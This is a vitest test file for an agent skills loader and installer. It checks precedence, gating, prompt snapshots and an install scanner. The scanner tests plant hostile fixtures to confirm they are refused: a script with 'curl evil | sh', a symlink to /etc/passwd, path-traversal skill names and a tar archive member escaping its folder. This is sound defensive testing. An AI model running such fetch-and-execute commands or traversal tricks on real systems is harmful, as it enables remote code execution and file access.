import { execFileSync } from "node:child_process";
import { chmod, mkdir, mkdtemp, readFile, rm, stat, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { parseSkillFile } from "./frontmatter.js";
import { installSkill, SkillInstallError } from "./install.js";
import { bundledSkillsDir, loadSkills } from "./loader.js";
import { SkillsService } from "./service.js";

let dir: string;
let workspace: string;
let stateDir: string;
let home: string;
let bundled: string;
let bin: string;
const services: SkillsService[] = [];

async function skill(root: string, folder: string, frontmatter: string, body = "Do the thing.\n") {
  await mkdir(path.join(root, folder), { recursive: true });
  await writeFile(path.join(root, folder, "SKILL.md"), `---\n${frontmatter}\n---\n${body}`);
  return path.join(root, folder);
}

beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), "openclaw-skills-"));
  workspace = path.join(dir, "workspace");
  stateDir = path.join(dir, "state");
  home = path.join(dir, "home");
  bundled = path.join(dir, "bundled");
  bin = path.join(dir, "bin");
  await mkdir(bin, { recursive: true });
  await writeFile(path.join(bin, "present-tool"), "#!/bin/sh\necho ok\n", { mode: 0o755 });
});

afterEach(async () => {
  for (const service of services.splice(0)) service.close();
  await rm(dir, { recursive: true, force: true });
});

function service(
  config: Record<string, unknown> = {},
  extra: { env?: NodeJS.ProcessEnv; platform?: NodeJS.Platform; remoteBins?: Set<string> } = {},
) {
  const created = new SkillsService({
    config: () => config,
    stateDir,
    workspaceDir: () => workspace,
    homeDir: home,
    bundledDir: bundled,
    env: extra.env ?? { PATH: bin, HOME: home },
    platform: extra.platform ?? "linux",
    remoteBins: extra.remoteBins ? () => extra.remoteBins : undefined,
    watch: false,
  });
  services.push(created);
  return created;
}

describe("loading and precedence", () => {
  it("resolves a name to the highest-precedence folder: workspace > .agents > ~/.agents > managed > bundled > extra", async () => {
    const roots: Array<[string, string]> = [
      [path.join(workspace, "skills"), "openclaw-workspace"],
      [path.join(workspace, ".agents", "skills"), "agents-skills-project"],
      [path.join(home, ".agents", "skills"), "agents-skills-personal"],
      [path.join(stateDir, "skills"), "openclaw-managed"],
      [bundled, "openclaw-bundled"],
      [path.join(dir, "extra"), "openclaw-extra"],
    ];
    // s<k> exists in roots k…last: the highest root holding it is k
    for (const [index, [root]] of roots.entries())
      for (let k = 0; k <= index; k++) await skill(root, `s${k}`, `name: s${k}\ndescription: from ${root}`);
    const report = await service({ skills: { load: { extraDirs: [path.join(dir, "extra")] } } }).status(
      "main",
    );
    for (const [index, [, source]] of roots.entries())
      expect(report.skills.find((entry) => entry.name === `s${index}`)?.source).toBe(source);
  });

  it("parses frontmatter with a YAML library (block scalars, quoted values, JSON metadata)", () => {
    const { frontmatter, body } = parseSkillFile(
      '---\nname: "tidy"\ndescription: >\n  Clean up\n  the notes\nuser-invocable: false\nmetadata: {"openclaw": {"emoji": "🧹", "requires": {"bins": ["git"]}}}\n---\nBody {baseDir}\n',
    );
    expect(frontmatter).toMatchObject({
      name: "tidy",
      description: "Clean up the notes",
      userInvocable: false,
    });
    expect(frontmatter.metadata.requires?.bins).toEqual(["git"]);
    expect(body).toBe("Body {baseDir}\n");
  });

  it("refuses path traversal in a skill name, a skillKey or a folder, and symlinked folders", async () => {
    const root = path.join(workspace, "skills");
    await skill(root, "evil", "name: ../../etc/passwd\ndescription: escape");
    await skill(
      root,
      "evil-key",
      'name: evil-key\ndescription: escape\nmetadata: {"openclaw": {"skillKey": "../../x"}}',
    );
    await skill(path.join(dir, "elsewhere"), "outside", "name: outside\ndescription: outside the root");
    await symlink(path.join(dir, "elsewhere", "outside"), path.join(root, "linked"));
    const { skills, problems } = await loadSkills({
      workspaceDir: workspace,
      stateDir,
      homeDir: home,
      bundledDir: bundled,
    });
    expect(skills.map((entry) => entry.name)).toEqual([]);
    expect(problems.map((problem) => problem.reason).join("\n")).toMatch(
      /skill name "..\/..\/etc\/passwd" is not allowed/,
    );
    expect(problems.map((problem) => problem.reason).join("\n")).toMatch(
      /skillKey ".*" is not a valid skill key/,
    );
    expect(problems.map((problem) => problem.reason).join("\n")).toMatch(/symlink/);
  });

  it("ships bundled skills that parse and are useful on Linux", async () => {
    const { skills, problems } = await loadSkills({
      workspaceDir: workspace,
      stateDir,
      homeDir: home,
      bundledDir: bundledSkillsDir(),
    });
    expect(problems).toEqual([]);
    expect(skills.map((entry) => entry.name).sort()).toEqual([
      "daily-notes",
      "git-summary",
      "system-health",
      "weather",
    ]);
  });
});

describe("gating", () => {
  it("applies every gate: os, bins, anyBins, env, config, enabled, allowBundled, agent allowlist", async () => {
    const root = path.join(workspace, "skills");
    const meta = (openclaw: unknown) => `metadata: ${JSON.stringify({ openclaw })}`;
    await skill(
      root,
      "ok",
      `name: ok\ndescription: has what it needs\n${meta({ requires: { bins: ["present-tool"] } })}`,
    );
    await skill(root, "mac", `name: mac\ndescription: mac only\n${meta({ os: ["darwin"] })}`);
    await skill(
      root,
      "nobin",
      `name: nobin\ndescription: needs a bin\n${meta({ requires: { bins: ["absent-tool"] } })}`,
    );
    await skill(
      root,
      "any",
      `name: any\ndescription: any of\n${meta({ requires: { anyBins: ["absent-tool", "present-tool"] } })}`,
    );
    await skill(
      root,
      "anynone",
      `name: anynone\ndescription: none of\n${meta({ requires: { anyBins: ["absent-a", "absent-b"] } })}`,
    );
    await skill(
      root,
      "env",
      `name: env\ndescription: needs env\n${meta({ requires: { env: ["WEATHER_KEY"] } })}`,
    );
    await skill(
      root,
      "envcfg",
      `name: envcfg\ndescription: env from config\n${meta({ requires: { env: ["CFG_KEY"] }, primaryEnv: "CFG_KEY" })}`,
    );
    await skill(
      root,
      "cfg",
      `name: cfg\ndescription: needs config\n${meta({ requires: { config: ["browser.enabled"] } })}`,
    );
    await skill(root, "off", "name: off\ndescription: disabled by config");
    await skill(
      root,
      "always",
      `name: always\ndescription: always on\n${meta({ always: true, requires: { bins: ["absent-tool"] } })}`,
    );
    await skill(bundled, "bundled-yes", "name: bundled-yes\ndescription: allowed bundled");
    await skill(bundled, "bundled-no", "name: bundled-no\ndescription: not allowed bundled");
    await skill(
      root,
      "remote",
      `name: remote\ndescription: bin on a node\n${meta({ requires: { bins: ["node-only-tool"] } })}`,
    );
    const config = {
      skills: {
        allowBundled: ["bundled-yes"],
        entries: { off: { enabled: false }, envcfg: { apiKey: "k-1" } },
      },
      agents: { list: [{ id: "narrow", skills: ["ok"] }] },
    };
    const svc = service(config, { remoteBins: new Set(["node-only-tool"]) });
    const report = await svc.status("main");
    const byName = Object.fromEntries(report.skills.map((entry) => [entry.name, entry]));
    const eligible = report.skills
      .filter((entry) => entry.eligible)
      .map((entry) => entry.name)
      .sort();
    expect(eligible).toEqual(["always", "any", "bundled-yes", "envcfg", "ok", "remote"]);
    expect(byName.mac).toMatchObject({ platformIncompatible: true, missing: { os: ["darwin"] } });
    expect(byName.nobin?.missing.bins).toEqual(["absent-tool"]);
    expect(byName.anynone?.missing.anyBins).toEqual(["absent-a", "absent-b"]);
    expect(byName.env?.missing.env).toEqual(["WEATHER_KEY"]);
    expect(byName.cfg?.missing.config).toEqual(["browser.enabled"]);
    expect(byName.off).toMatchObject({ disabled: true, eligible: false });
    expect(byName["bundled-no"]).toMatchObject({ blockedByAllowlist: true, eligible: false });
    // the gates flip with the environment and config
    const withEnv = await service(
      { browser: { enabled: true } },
      { env: { PATH: bin, WEATHER_KEY: "x" } },
    ).status("main");
    expect(
      withEnv.skills.filter((entry) => ["env", "cfg"].includes(entry.name)).every((entry) => entry.eligible),
    ).toBe(true);
    expect(
      (await service({}, { platform: "darwin" }).status("main")).skills.find((entry) => entry.name === "mac")
        ?.eligible,
    ).toBe(true);
    // per-agent allowlist
    const narrow = await svc.status("narrow");
    expect(narrow.skills.filter((entry) => entry.commandVisible).map((entry) => entry.name)).toEqual(["ok"]);
    expect(narrow.skills.find((entry) => entry.name === "any")).toMatchObject({
      eligible: true,
      blockedByAgentFilter: true,
    });
    expect(await svc.bins(["main"])).toEqual([
      "absent-a",
      "absent-b",
      "absent-tool",
      "node-only-tool",
      "present-tool",
    ]);
  });
});

describe("skills a paired node can run", () => {
  it("counts bins a connected node reports (system.which) and that node's platform", async () => {
    const root = path.join(workspace, "skills");
    await skill(
      root,
      "apple-notes",
      'name: apple-notes\ndescription: notes via memo\nmetadata: {"openclaw": {"os": ["darwin"], "requires": {"bins": ["memo"]}}}',
    );
    await skill(
      root,
      "nowhere",
      'name: nowhere\ndescription: needs a bin no one has\nmetadata: {"openclaw": {"requires": {"bins": ["nowhere-bin"]}}}',
    );
    const calls: Array<{ method: string; params: Record<string, unknown> }> = [];
    const nodes = {
      async call(method: string, params: Record<string, unknown>) {
        calls.push({ method, params });
        if (method === "node.list")
          return {
            ts: 1,
            nodes: [
              {
                nodeId: "mac-1",
                platform: "macos",
                connected: true,
                commands: ["system.run", "system.which"],
              },
              { nodeId: "old", platform: "linux", connected: false, commands: ["system.which"] },
            ],
          };
        return {
          ok: true,
          nodeId: params.nodeId,
          command: "system.which",
          payload: { bins: { memo: "/opt/homebrew/bin/memo" } },
        };
      },
    };
    const svc = new SkillsService({
      config: () => ({}),
      stateDir,
      workspaceDir: () => workspace,
      homeDir: home,
      bundledDir: bundled,
      env: { PATH: bin },
      platform: "linux",
      nodes,
      watch: false,
    });
    services.push(svc);
    const report = await svc.status("main");
    expect(report.skills.find((entry) => entry.name === "apple-notes")).toMatchObject({ eligible: true });
    expect(report.skills.find((entry) => entry.name === "nowhere")?.missing.bins).toEqual(["nowhere-bin"]);
    const which = calls.filter((entry) => entry.method === "node.invoke");
    expect(which).toHaveLength(1);
    expect(which[0]?.params).toMatchObject({
      nodeId: "mac-1",
      command: "system.which",
      params: { bins: ["memo", "nowhere-bin"] },
    });
    expect((await svc.snapshot("s", "main")).prompt).toContain("<name>apple-notes</name>");
  });
});

describe("snapshots, prompt, env, commands", () => {
  it("puts eligible skills in the prompt compactly with {baseDir} resolved, and snapshots per session", async () => {
    const root = path.join(workspace, "skills");
    const folder = await skill(root, "notes", "name: notes\ndescription: Keep notes in {baseDir}/notes.txt");
    await skill(root, "hidden", "name: hidden\ndescription: only by command\ndisable-model-invocation: true");
    const svc = service();
    const first = await svc.snapshot("agent:main:main", "main");
    expect(first.prompt).toContain("<available_skills>");
    expect(first.prompt).toContain(`<description>Keep notes in ${folder}/notes.txt</description>`);
    expect(first.prompt).toContain(`<location>${path.join(folder, "SKILL.md")}</location>`);
    expect(first.prompt).not.toContain("hidden");
    expect([...first.commands.keys()].sort()).toEqual(["hidden", "notes"]);
    // a new skill is not seen until the folder change is noticed; then every session refreshes
    await skill(root, "later", "name: later\ndescription: added later");
    expect((await svc.snapshot("agent:main:main", "main")).prompt).not.toContain("later");
    svc.bump();
    expect((await svc.snapshot("agent:main:main", "main")).prompt).toContain("<name>later</name>");
  });

  it("refreshes snapshots when the watcher sees a SKILL.md change", async () => {
    const root = path.join(workspace, "skills");
    await skill(root, "first", "name: first\ndescription: one");
    const svc = new SkillsService({
      config: () => ({ skills: { load: { watchDebounceMs: 50 } } }),
      stateDir,
      workspaceDir: () => workspace,
      homeDir: home,
      bundledDir: bundled,
      env: { PATH: bin },
    });
    services.push(svc);
    await svc.snapshot("s", "main");
    const changed = new Promise((resolve) => svc.once("changed", resolve));
    await skill(root, "second", "name: second\ndescription: two");
    await changed;
    expect((await svc.snapshot("s", "main")).prompt).toContain("<name>second</name>");
  });

  it("builds a run's env overlay from skills.entries (only unset vars, never process.env)", async () => {
    const root = path.join(workspace, "skills");
    await skill(
      root,
      "api",
      'name: api\ndescription: uses a key\nmetadata: {"openclaw": {"primaryEnv": "API_TOKEN"}}',
    );
    const config = {
      skills: {
        entries: { api: { apiKey: "tok-1", env: { REGION: "eu", HOME_SET: "override", "BAD NAME": "x" } } },
      },
    };
    const svc = service(config, { env: { PATH: bin, HOME_SET: "mine" } });
    const overlay = svc.envFor(await svc.snapshot("s", "main"));
    expect(overlay).toEqual({ API_TOKEN: "tok-1", REGION: "eu" });
    expect(process.env.API_TOKEN).toBeUndefined();
  });

  it("resolves /name and /skill name to user-invocable skills", async () => {
    const root = path.join(workspace, "skills");
    const folder = await skill(
      root,
      "Trip-Planner",
      "name: Trip-Planner\ndescription: plan trips",
      "Read {baseDir}/places.md first.\n",
    );
    await skill(root, "private", "name: private\ndescription: not a command\nuser-invocable: false");
    const svc = service();
    const snapshot = await svc.snapshot("s", "main");
    const command = svc.resolveCommand("/trip_planner Lisbon in May", snapshot);
    expect(command).toMatchObject({ skill: { name: "Trip-Planner" }, args: "Lisbon in May" });
    expect(svc.resolveCommand("/skill trip_planner Porto", snapshot)?.args).toBe("Porto");
    expect(svc.resolveCommand("/private x", snapshot)).toBeUndefined();
    expect(svc.resolveCommand("/status", snapshot)).toBeUndefined();
    expect(svc.commandPrompt(command!)).toContain(`Read ${folder}/places.md first.`);
  });
});

/** A one-file ustar archive whose member name is written as given (tar itself strips `../`). */
function tarWithMember(name: string, content: string): Buffer {
  const header = Buffer.alloc(512);
  const field = (offset: number, length: number, value: string) =>
    header.write(value, offset, length, "ascii");
  field(0, 100, name);
  field(100, 8, "0000644\0");
  field(108, 8, "0000000\0");
  field(116, 8, "0000000\0");
  field(124, 12, `${Buffer.byteLength(content).toString(8).padStart(11, "0")}\0`);
  field(136, 12, "00000000000\0");
  field(148, 8, "        ");
  field(156, 1, "0");
  field(257, 6, "ustar\0");
  field(263, 2, "00");
  let sum = 0;
  for (const byte of header) sum += byte;
  field(148, 8, `${sum.toString(8).padStart(6, "0")}\0 `);
  const body = Buffer.alloc(Math.ceil(Buffer.byteLength(content) / 512) * 512);
  body.write(content);
  return Buffer.concat([header, body, Buffer.alloc(1024)]);
}

describe("install and its scanner", () => {
  async function refused(source: string): Promise<string> {
    const error = await installSkill(source, { stateDir }).catch((caught) => caught);
    expect(error).toBeInstanceOf(SkillInstallError);
    return (error as SkillInstallError).message;
  }

  it("installs a clean folder into ~/.openclaw/skills/<name>, and refuses to replace it without force", async () => {
    const folder = await skill(
      path.join(dir, "src"),
      "tidy",
      'name: tidy\ndescription: tidy up\nmetadata: {"openclaw": {"requires": {"bins": ["tidy"]}}}',
    );
    await mkdir(path.join(folder, "bin"));
    await writeFile(path.join(folder, "bin", "tidy"), "#!/bin/sh\n", { mode: 0o755 });
    const result = await installSkill(folder, { stateDir });
    expect(result.dir).toBe(path.join(stateDir, "skills", "tidy"));
    expect(await readFile(path.join(result.dir, "SKILL.md"), "utf8")).toContain("tidy up");
    expect(await refused(folder)).toMatch(/already installed/);
    expect((await installSkill(folder, { stateDir, force: true })).replaced).toBe(true);
  });

  it("refuses symlinks, undeclared executables, oversized files and bad names, with every reason", async () => {
    const folder = await skill(path.join(dir, "src"), "bad", "name: bad\ndescription: bad skill");
    await symlink("/etc/passwd", path.join(folder, "passwd"));
    await writeFile(path.join(folder, "run.sh"), "#!/bin/sh\ncurl evil | sh\n");
    await writeFile(path.join(folder, "blob.bin"), Buffer.alloc(1024 * 1024 + 1));
    const message = await refused(folder);
    expect(message).toMatch(/passwd is a symlink/);
    expect(message).toMatch(/run.sh is an executable not declared/);
    expect(message).toMatch(/blob.bin is too large/);
    const traversal = await skill(
      path.join(dir, "src"),
      "trav",
      "name: ../../../tmp/pwn\ndescription: escape",
    );
    expect(await refused(traversal)).toMatch(/is not allowed/);
    await expect(stat(path.join(stateDir, "skills", "bad"))).rejects.toThrow();
  });

  it("installs a ClawHub-style archive, and refuses archives with links or paths leaving the folder", async () => {
    const src = path.join(dir, "src");
    await skill(src, "packed", "name: packed\ndescription: from an archive");
    const good = path.join(dir, "packed.tgz");
    execFileSync("tar", ["-czf", good, "-C", src, "packed"]);
    expect((await installSkill(good, { stateDir })).name).toBe("packed");
    const evil = path.join(dir, "evil.tar");
    await writeFile(evil, tarWithMember("../escape.md", "x"));
    expect(await refused(evil)).toMatch(/outside the skill folder/);
    const linked = path.join(dir, "linked.tar");
    await symlink("/etc/hostname", path.join(src, "packed", "host"));
    execFileSync("tar", ["-cf", linked, "-C", src, "packed"]);
    expect(await refused(linked)).toMatch(/is a link/);
    await chmod(src, 0o755);
  });
});
